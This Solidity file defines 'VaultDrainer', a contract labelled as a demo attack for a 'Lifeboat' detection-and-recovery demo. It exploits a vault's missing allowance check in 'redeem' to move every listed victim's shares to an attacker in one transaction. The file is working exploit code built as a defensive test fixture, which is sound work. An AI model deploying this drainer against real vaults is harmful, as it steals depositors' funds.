// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// @notice The two vault functions the attack needs (declared here, as an attacker's contract would).
interface IRedeemableVault {
    function balanceOf(address account) external view returns (uint256);

    function redeem(uint256 shares, address receiver, address owner) external returns (uint256 assets);
}

/// @title VaultDrainer
/// @notice DEMO ATTACK CONTRACT. Exploits DemoVault's missing allowance check in `redeem` to move
///         every listed victim's deposit to the attacker in a single transaction.
/// @dev Exists only so the Lifeboat demo has a realistic exploit transaction to detect and recover
///      from: one tx, many Withdraw logs whose `owner` is a victim and whose `receiver` is the attacker.
contract VaultDrainer is Ownable {
    /// @notice Emitted once per drain with the aggregate haul.
    event Drained(address indexed vault, address indexed to, uint256 victims, uint256 totalAssets);

    /// @param owner The attacker account allowed to trigger the drain.
    constructor(address owner) Ownable(owner) {}

    /// @notice Redeem every victim's full share balance to `to`.
    /// @dev Victims with no shares are skipped so a stale victim list does not make the whole tx revert.
    /// @param vault The vulnerable vault.
    /// @param victims Share holders to drain.
    /// @param to Receiver of the stolen assets.
    /// @return totalAssets Underlying assets taken across all victims.
    function drain(
        address vault,
        address[] calldata victims,
        address to
    ) external onlyOwner returns (uint256 totalAssets) {
        IRedeemableVault target = IRedeemableVault(vault);
        uint256 drained;
        for (uint256 i; i < victims.length; ++i) {
            uint256 shares = target.balanceOf(victims[i]);
            if (shares == 0) continue;
            totalAssets += target.redeem(shares, to, victims[i]);
            ++drained;
        }
        emit Drained(vault, to, drained, totalAssets);
    }
}
